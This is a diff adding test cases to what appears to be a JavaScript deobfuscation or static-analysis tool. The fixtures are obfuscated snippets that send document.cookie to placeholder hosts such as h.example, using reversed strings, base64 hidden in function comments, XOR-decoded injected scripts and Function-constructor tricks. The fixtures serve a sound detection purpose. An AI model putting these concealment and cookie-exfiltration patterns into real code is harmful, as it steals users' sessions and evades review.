@@ -30,14 +30,6 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
   },
   {
-    name: 'a built-in that is no decoder (join) is not passed off as decoded text',
-    source: `var sep = '', parts = ['render(', 'model', ');'];
-      function go(){ var body = parts.join(sep); return new Function('model', body) }
-      go()`,
-    has: [],
-    not: ['atob('],
-  },
-  {
     name: 'hex XORed into a Uint8Array and read with a TextDecoder',
     source: `function unpack(h,k){const o=new Uint8Array(h.length/2);for(let i=0;i<o.length;i++)o[i]=parseInt(h.substr(i*2,2),16)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}
       const s=document.createElement('script');s.text=unpack('0d5c1f5a031149511f4d1b4a51164441455c13580649075c445a545d561b405d045a1e540e571f1708560452025c42','k9');document.head.appendChild(s)`,
@@ -416,6 +408,81 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
         fetch(d(0), { method: 'POST', body: out.join('&') })
       })`,
     has: ['fetch("https://c.example/i"'],
+  },
+  {
+    name: "a property no code writes keeps its literal after a call of the object's own method the evaluator cannot finish",
+    source: `(function (doc) {
+      var Box = { ns: 'elpmaxe.h//:sptth', tiers: [], cfg: { sel: '.x' },
+        bind: function () { var self = this; var all = doc.querySelectorAll(this.cfg.sel)
+          if (!all.length) return; doc.addEventListener('change', function () { self.read(all) }) },
+        read: function (a) { return a[0].value } }
+      Box.bind()
+      var u = Box.ns.split('').reverse().join(''); fetch(u + '/c?' + document.cookie)
+    })(document)`,
+    has: ['var u = "https://h.example"'],
+  },
+  {
+    name: 'a property a method writes by name, somewhere, is not kept',
+    source: `(function (doc) {
+      var Box = { ns: 'elpmaxe.h//:sptth',
+        bind: function () { if (!doc.querySelectorAll('.x').length) return; this.ns = doc.title } }
+      Box.bind()
+      var u = Box.ns.split('').reverse().join(''); fetch(u + '/c?' + document.cookie)
+    })(document)`,
+    has: [],
+    not: ['"https://h.example"'],
+  },
+  {
+    name: 'nor is any when a method hands `this` to other code, or the object is written under a computed name',
+    source: `(function (doc) {
+      var A = { ns: 'elpmaxe.a//:sptth',
+        bind: function () { var self = this; if (!doc.querySelectorAll('.x').length) return; $.extend(self, doc.dataset) } }
+      var B = { ns: 'elpmaxe.b//:sptth',
+        bind: function () { if (!doc.querySelectorAll('.x').length) return; B[doc.title] = 1 } }
+      A.bind(); B.bind()
+      fetch(A.ns.split('').reverse().join('') + B.ns.split('').reverse().join(''))
+    })(document)`,
+    has: [],
+    not: ['"https://a.example"', '"https://b.example"'],
+  },
+  {
+    name: 'other code writing a member of the same name into its own objects changes nothing',
+    source: `function lib(t, e) { t.ns = e; t.key = e }
+      (function (doc) {
+        var Box = { ns: 'elpmaxe.h//:sptth', bind: function () { if (!doc.querySelectorAll('.x').length) return } }
+        Box.bind()
+        fetch(Box.ns.split('').reverse().join('') + '/c?' + document.cookie)
+      })(document)`,
+    has: ['fetch("https://h.example/c?"'],
+  },
+  {
+    name: 'but an object handed to other code is written by any write of that name',
+    source: `(function (doc) {
+        var Box = { ns: 'elpmaxe.h//:sptth', bind: function () { if (!doc.querySelectorAll('.x').length) return } }
+        var held = Box
+        doc.addEventListener('change', function () { held.ns = location.hash })
+        Box.bind()
+        fetch(Box.ns.split('').reverse().join('') + '/c?' + document.cookie)
+      })(document)`,
+    has: [],
+    not: ['"https://h.example'],
+  },
+  {
+    name: "a function's own text, read with Function.prototype.toString, carries a payload in a comment",
+    source: `function defaults() { return { d: 300 }
+        /* cfg:start ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp cfg:end */ }
+      var src = Function.prototype.toString.call(defaults)
+      var a = src.indexOf('cfg:start'), b = src.indexOf('cfg:end')
+      setTimeout(atob(src.slice(a + 9, b).trim()), 0)`,
+    has: ['atob("ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp")'],
+  },
+  {
+    name: "code given to an async function's or a generator's constructor, with new, is read as Function's",
+    source: `var AF = Object.getPrototypeOf(async function () {}).constructor
+      var GF = Object.getPrototypeOf(function* () {}).constructor
+      var k = 'ZmV0Y2goJ2h0dHBzOi8vaC5leGFtcGxlL2M/Jytkb2N1bWVudC5jb29raWUp', t = atob(k.split('').join(''))
+      new AF('w', t)(window); new GF(t)().next()`,
+    has: ["new Function('w', atob(", 'new Function(atob('],
   },
 ]
 
